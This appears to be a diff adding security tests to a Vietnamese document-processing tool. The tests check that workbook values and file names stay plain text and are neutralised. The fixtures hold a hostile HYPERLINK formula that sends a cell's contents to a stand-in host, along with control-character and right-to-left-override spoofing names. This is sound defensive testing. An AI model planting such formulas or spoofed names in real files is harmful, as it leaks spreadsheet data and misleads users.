@@ -5,10 +5,13 @@ in parallel, a restart over a closed keep-alive connection. Each test failed bef
 
 from __future__ import annotations
 
+import csv
 import os
 import re
+import shutil
 import socket
 import sqlite3
+import subprocess
 import sys
 from pathlib import Path
 
@@ -318,3 +321,144 @@ def test_saves_from_many_tabs_at_once_are_all_written_and_a_wrong_id_fails_alone
     assert all(rows[i][appraise.NOTE] == f"ghi chú {rows[i][RESULT]}" for i in ids), (
         "result and note together"
     )
+
+
+# ---------------------------------------------------------------------------- fault 1: formula injection
+
+LINK = '=HYPERLINK("http://example.invalid/?d="&B2,"Xem")'
+
+
+@pytest.fixture()
+def hostile(tmp_path: Path):
+    """A campaign whose model name is a formula, in a folder named like one, with a file there that
+    needs a correction (so every workbook of the check holds a hostile text)."""
+    root = init_workspace(tmp_path / "ws")
+    write_docx(root / "inputs" / "=2+3" / "Sổ vàng.docx", *proposal_paragraphs(model_name=LINK))
+    write_docx(root / "inputs" / "=2+3" / "Thiếu cấp.docx", *proposal_paragraphs(model_name="=1+1", level=""))
+    workspace = load_workspace(root)
+    service.check(workspace)
+    return workspace
+
+
+def register_with_a_hostile_signer(workspace, monkeypatch) -> Path:
+    from pipeline.archive import register_export
+
+    entry = {
+        "printed": "12/QĐ-BDVTU",
+        "date": "2020-12-23",
+        "title": "Quyết định công nhận",
+        "signer": LINK,  # the signer certificate's name, as the signed PDF carries it
+        "recipients": ["=1+1"],
+        "kept_by": "Văn phòng",
+        "signature": "valid",
+        "replaced": [],
+        "code": "",
+    }
+    monkeypatch.setattr(register_export, "outgoing_register", lambda workspace: [entry])
+    return register_export.write_register_xlsx(workspace, workspace.root / "so-dang-ky.xlsx")
+
+
+def dvk_workbooks(workspace, monkeypatch) -> list[Path]:
+    year = workspace.year_dir
+    register = register_with_a_hostile_signer(workspace, monkeypatch)
+    return [
+        year / "tham-dinh.xlsx",
+        year / "bao-cao-kiem-tra.xlsx",
+        year / "bo-sung-thong-tin.xlsx",
+        register,
+    ]
+
+
+def test_text_that_looks_like_a_formula_is_stored_as_text_in_every_workbook(hostile, monkeypatch) -> None:
+    for path in dvk_workbooks(hostile, monkeypatch):
+        cells = [cell for sheet in load_workbook(path) for row in sheet.iter_rows() for cell in row]
+        formulas = [cell.coordinate for cell in cells if cell.data_type == "f"]
+        assert formulas == [], f"{path.name} stores live formulas at {formulas}"
+        texts = {cell.value for cell in cells if isinstance(cell.value, str)}
+        assert LINK in texts or any("=2+3/" in text for text in texts), path.name
+
+
+CSV_UTF8 = "csv:Text - txt - csv (StarCalc):44,34,76"  # comma, double quote, UTF-8
+
+
+@pytest.mark.skipif(shutil.which("soffice") is None, reason="LibreOffice (soffice) is not installed")
+def test_libreoffice_shows_the_text_not_a_formula_result(hostile, monkeypatch, tmp_path: Path) -> None:
+    profile = (tmp_path / "lo-profile").as_uri()
+    for path in dvk_workbooks(hostile, monkeypatch):
+        out = tmp_path / path.stem
+        command = ["soffice", f"-env:UserInstallation={profile}", "--headless", "--convert-to", CSV_UTF8]
+        done = subprocess.run([*command, "--outdir", str(out), str(path)], capture_output=True, timeout=180)
+        if b"could not be loaded" in done.stdout + done.stderr:
+            pytest.skip("LibreOffice is installed without Calc: it cannot open a workbook")
+        with open(out / f"{path.stem}.csv", encoding="utf-8", newline="") as shown:
+            cells = {cell for row in csv.reader(shown) for cell in row}
+        assert LINK in cells or "=2+3/Thiếu cấp.docx" in cells, (
+            f"{path.name} as LibreOffice shows it: {cells}"
+        )
+        assert "Xem" not in cells and "2" not in cells and "5" not in cells, f"{path.name}: a formula ran"
+
+
+# ---------------------------------------------------------------------------- fault 2: control characters
+
+CONTROL_NAMES = ["Phường\x01An Hòa/Sổ vàng.docx", "Sổ\x07vàng.docx", "Sổ\x1b[31mđỏ.docx", "Sổ\x0bdọc.docx"]
+
+
+@pytest.mark.skipif(sys.platform == "win32", reason="Windows forbids control characters in file names")
+def test_a_control_character_in_a_name_is_a_clear_status_in_check_and_at_serve_start(tmp_path: Path) -> None:
+    from pipeline.web import server
+
+    root = init_workspace(tmp_path / "ws")
+    for name in CONTROL_NAMES:
+        write_docx(root / "inputs" / name, *proposal_paragraphs(model_name=f"Mô hình {len(name)}"))
+    result = CliRunner().invoke(main, ["check", "-w", str(root), "--json"])
+    assert result.exit_code == 0 and "Traceback" not in result.output, result.output
+    import json
+
+    files_seen = {item["path"]: item for item in json.loads(result.stdout)["files"]}
+    for name in CONTROL_NAMES:
+        assert files_seen[name]["status"] == "skipped"
+        assert files_seen[name]["reason"].startswith(
+            "tên tệp hoặc thư mục có ký tự điều khiển hoặc ký tự đảo"
+        )
+    report = load_workbook(root / "outputs" / "2020" / "bao-cao-kiem-tra.xlsx")
+    shown = {cell.value for row in report.worksheets[0].iter_rows() for cell in row}
+    assert "Phường␁An Hòa/Sổ vàng.docx" in shown and "Sổ␛[31mđỏ.docx" in shown, "shown as control pictures"
+    assert server.prepare(load_workspace(root)) == "", "dvk serve starts"
+
+
+# ---------------------------------------------------------------------------- fault 11: bidirectional text
+
+RLO = "\u202e"
+
+
+def test_bidirectional_overrides_are_neutralised_in_what_dvk_shows_and_writes(tmp_path: Path) -> None:
+    from tests.webtools import client
+
+    root = init_workspace(tmp_path / "ws")
+    write_docx(root / "inputs" / f"Báo cáo{RLO}xcod.docx", *proposal_paragraphs(model_name="Tổ tự quản"))
+    write_docx(root / "inputs" / "Sổ vàng.docx", *proposal_paragraphs(model_name=f"Sổ vàng {RLO}khởi nghiệp"))
+    result = CliRunner().invoke(main, ["check", "-w", str(root)])
+    assert result.exit_code == 0 and RLO not in result.output, "the terminal listing shows no override"
+    assert "Sổ vàng khởi nghiệp" in result.output and "Báo cáoxcod.docx" in result.output
+    assert (
+        "Tên mô hình có ký tự đảo chiều văn bản hoặc ký tự điều khiển (U+202E) làm chữ hiện sai thứ tự hoặc "
+        "không thấy được; dvk đã bỏ các ký tự đó ở mọi nơi ghi giá trị này."
+    ) in result.output
+    assert "tên tệp hoặc thư mục có ký tự điều khiển hoặc ký tự đảo chiều văn bản (U+202E)" in result.output
+    for name in ("tham-dinh.xlsx", "bao-cao-kiem-tra.xlsx"):
+        book = load_workbook(root / "outputs" / "2020" / name)
+        texts = [str(cell.value) for sheet in book for row in sheet.iter_rows() for cell in row if cell.value]
+        assert not any(RLO in text for text in texts), name
+        assert any("Sổ vàng khởi nghiệp" in text for text in texts), name
+    workspace = load_workspace(root)
+    for page in ("/ho-so", "/tham-dinh", "/"):
+        assert RLO not in client(workspace).get(page).text, page
+
+
+def test_neutralise_drops_direction_controls_and_shows_control_characters() -> None:
+    from pipeline.vntext import hidden_characters, neutralise
+
+    assert neutralise(f"Sổ{RLO}\u2066vàng\u200f") == "Sổvàng"
+    assert neutralise("a\x01b\x1bc\x7fd\x85e\tf\ng") == "a␁b␛c␡d\ufffde\tf\ng"
+    assert hidden_characters(f"a{RLO}b\x01{RLO}") == ["U+202E", "U+0001"]
+    assert neutralise("Sổ vàng khởi nghiệp") == "Sổ vàng khởi nghiệp"
